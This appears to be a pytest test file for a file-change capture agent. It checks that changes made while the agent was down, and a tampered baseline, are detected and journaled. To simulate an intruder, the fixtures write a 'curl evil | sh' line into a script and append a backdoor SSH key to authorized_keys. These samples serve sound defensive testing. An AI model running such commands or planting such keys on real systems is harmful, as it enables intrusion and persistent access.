"""Capture across a gap: the saved baseline and "before", and what changed while the agent was down.

Real files, a real journal in a session folder; the "agent" is killed by
simply dropping its Capture without stop(), as kill -9 would.
"""

from __future__ import annotations

import hashlib
import json
import os
import stat
import time

import pytest

from agent.capture import Capture
from agent.capture import files as files_module
from agent.capture.baseline import BASELINE_FILE, ContentBaseline, TreeIndex, save_baseline
from agent.capture.resume import read_journal
from agent.journal import Journal, verify_journal


class JournalSink:
    """Capture's sink writing to a real journal, and remembering what it wrote."""

    def __init__(self, journal: Journal):
        self.journal = journal
        self.records: list[tuple[str, dict]] = []

    def emit(self, type: str, data: dict) -> int:
        self.records.append((type, data))
        return self.journal.append(type, data)

    def of(self, type: str) -> list[dict]:
        return [d for t, d in self.records if t == type]

    def files(self, path=None) -> list[dict]:
        return [d for d in self.of("file") if path is None or d["path"] == str(path)]


@pytest.fixture
def session(tmp_path, device_key):
    state = tmp_path / "sessions" / "s-1"
    root = tmp_path / "watched"
    root.mkdir()
    (root / "kept.conf").write_text("port = 22\n")
    (root / "edited-live.conf").write_text("v = 1\n")
    (root / "edited-in-gap.conf").write_text("v = 1\n")
    (root / "removed-in-gap.txt").write_text("bye\n")
    (root / ".ssh").mkdir()
    (root / ".ssh" / "authorized_keys").write_text("ssh-ed25519 AAAACUSTOMER customer\n")
    journal = Journal.create(state / "session.jsonl", "s-1", device_key)
    return state, root, journal


def abandon(cap: Capture) -> None:
    """What kill -9 does to capture: the file watcher stops with nothing flushed and no final rescan. (In
    this test process the other parts' threads must be stopped by hand, so that they do not outlive it.)"""
    cap._watcher._source.stop()
    cap._watcher._events.put(files_module._STOP)
    cap._watcher._recorder.join()
    for part in (cap._processes, cap._writes, cap._mounts):
        if part is not None:
            part.stop()
    if cap._own_lineage and cap._lineage is not None:
        cap._lineage.stop()


def wait_files(sink, path, n=1, timeout=10.0):
    deadline = time.monotonic() + timeout
    while len(sink.files(path)) < n and time.monotonic() < deadline:
        time.sleep(0.05)
    return sink.files(path)


def test_the_first_start_saves_the_baseline_and_says_its_hash(session):
    state, root, journal = session
    sink = JournalSink(journal)
    cap = Capture(sink, [root], state_dir=state, inventory=False, fanotify=False)
    cap.prepare()
    cap.stop()
    (saved,) = [d for d in sink.of("baseline") if d["phase"] == "saved"]
    baseline = state / BASELINE_FILE
    assert stat.S_IMODE(baseline.stat().st_mode) == 0o600
    assert saved["sha256"] == hashlib.sha256(baseline.read_bytes()).hexdigest() and saved["paths"] == 6
    assert b"port = 22" not in baseline.read_bytes()  # hashes and signatures, never contents
    journal.close()


def test_changes_made_while_the_agent_was_down_are_recorded_after_the_gap(session, device_key, tmp_path):
    state, root, journal = session
    outside = tmp_path / "outside"
    outside.mkdir()
    os.link(root / "kept.conf", outside / "hardlink")
    sink = JournalSink(journal)
    first = Capture(sink, [root], state_dir=state, inventory=False, fanotify=False)
    first.prepare()
    (root / "edited-live.conf").write_text("v = 2\n")  # recorded live, before the gap
    (root / "created-live.txt").write_text("hello\n")
    assert wait_files(sink, root / "edited-live.conf") and wait_files(sink, root / "created-live.txt")
    time.sleep(0.3)
    abandon(first)  # kill -9: no stop(), no final rescan
    journal.close()

    # --- the gap: the technician works unrecorded ---
    (root / "edited-in-gap.conf").write_text("v = 666\n")
    (root / "removed-in-gap.txt").unlink()
    (root / "created-in-gap.sh").write_text("curl evil | sh\n")
    with open(root / ".ssh" / "authorized_keys", "a") as f:
        f.write("ssh-ed25519 AAAABACKDOOR technician\n")
    before = os.stat(root / "kept.conf")
    with open(outside / "hardlink", "r+") as f:  # through a hard link elsewhere, same size, mtime put back
        f.write("port = 23\n")
    os.utime(outside / "hardlink", ns=(before.st_atime_ns, before.st_mtime_ns))

    # --- the agent starts again ---
    reopened = Journal.open(state / "session.jsonl", "s-1", device_key)
    recovery_ts = json.loads((state / "session.jsonl").read_text().splitlines()[-2])["ts"]
    sink2 = JournalSink(reopened)
    second = Capture(sink2, [root], state_dir=state, inventory=False, fanotify=False)
    second.prepare()
    deadline = time.monotonic() + 10
    while not [d for d in sink2.of("baseline") if d["phase"] == "after-gap"] and time.monotonic() < deadline:
        time.sleep(0.05)
    second.stop()
    reopened.seal()
    reopened.close()

    after_gap = {d["path"]: d for d in sink2.files() if d.get("via") == "after-gap"}
    assert set(after_gap) == {str(root / p) for p in ("edited-in-gap.conf", "removed-in-gap.txt", "created-in-gap.sh",
                                                      ".ssh/authorized_keys", "kept.conf")}
    assert after_gap[str(root / "created-in-gap.sh")]["op"] == "created"
    assert after_gap[str(root / "removed-in-gap.txt")]["op"] == "deleted"
    assert after_gap[str(root / "kept.conf")]["op"] == "modified"  # the hard link: found by its change time
    edited = after_gap[str(root / "edited-in-gap.conf")]
    assert edited["op"] == "modified" and edited["sha256_before"] and edited["sha256_after"] != edited["sha256_before"]
    for record in after_gap.values():
        assert record["gap"]["to"] == recovery_ts and record["gap"]["from"] < recovery_ts
    (summary,) = [d for d in sink2.of("baseline") if d["phase"] == "after-gap"]
    assert summary["changes"] == 5 and summary["explained"] == 2  # the live edits were in the journal already
    # nothing recorded twice: the live changes before the gap are not repeated, at the gap or at the end
    assert not [d for d in sink2.files(root / "edited-live.conf")]
    assert not [d for d in sink2.files(root / "created-live.txt")]
    assert verify_journal(state / "session.jsonl").ok


def test_a_baseline_changed_during_the_gap_is_refused_and_raises_an_alarm(session, device_key):
    state, root, journal = session
    first = Capture(JournalSink(journal), [root], state_dir=state, inventory=False, fanotify=False)
    first.prepare()
    abandon(first)
    journal.close()
    (root / "created-in-gap.sh").write_text("x")
    # the technician rescans and rewrites the baseline so that their file looks old
    index = TreeIndex()
    index.scan(os.fsencode(root))
    save_baseline(state / BASELINE_FILE, index, ContentBaseline())
    reopened = Journal.open(state / "session.jsonl", "s-1", device_key)
    sink = JournalSink(reopened)
    second = Capture(sink, [root], state_dir=state, inventory=False, fanotify=False)
    second.prepare()
    second.stop()
    reopened.close()
    (error,) = [d for d in sink.of("capture-error") if d["what"] == "baseline-unusable"]
    assert "not the one the journal recorded" in error["error"]
    assert [d["kind"] for d in sink.of("alarm")] == ["baseline-changed"]


def test_a_stall_of_a_running_agent_is_answered_by_a_rescan(session):
    state, root, journal = session
    sink = JournalSink(journal)
    cap = Capture(sink, [root], state_dir=state, inventory=False, fanotify=False)
    # opened before the session: a write through it raises no closed-after-write event
    fd = os.open(root / "kept.conf", os.O_WRONLY)
    try:
        cap.prepare()
        os.pwrite(fd, b"port = 2222\n", 0)
        cap.after_gap({"from": "2026-01-01T00:00:00.000000Z", "to": "2026-01-01T00:00:09.000000Z", "cause": "stopped"})
        (record,) = wait_files(sink, root / "kept.conf")
    finally:
        os.close(fd)
        cap.stop()
        journal.close()
    assert record["via"] == "after-gap"
    assert record["gap"] == {"from": "2026-01-01T00:00:00.000000Z", "to": "2026-01-01T00:00:09.000000Z"}


def test_read_journal_knows_the_last_state_of_each_path(tmp_path, device_key):
    path = tmp_path / "session.jsonl"
    with Journal.create(path, "s-1", device_key) as j:
        j.append("file", {"op": "created", "path": "/w/a", "sha256_after": "1" * 64, "kind": "file"})
        j.append("file", {"op": "moved", "path": "/w/a", "dest": "/w/b", "sha256_after": "1" * 64, "kind": "file"})
        j.append("file", {"op": "deleted", "path": "/w/c", "sha256_after": None, "kind": "file"})
        j.append("file", {"op": "modified", "path": "/w/d", "via": "replace", "replaced_by": "/w/.d.tmp",
                          "sha256_after": "2" * 64, "kind": "file"})
        j.append("file", {"op": "created", "path": "/w/\\xff", "path_b64": "L3cv/w==", "sha256_after": "3" * 64,
                          "kind": "file"})
        j.append("file", {"op": "created", "path": "/w/dir", "sha256_after": None, "kind": "dir"})
    view = read_journal(path)
    assert view.known == {b"/w/a": None, b"/w/b": "1" * 64, b"/w/c": None, b"/w/d": "2" * 64, b"/w/.d.tmp": None,
                          b"/w/\xff": "3" * 64, b"/w/dir": ""}
    assert not view.resumed and view.gap is None
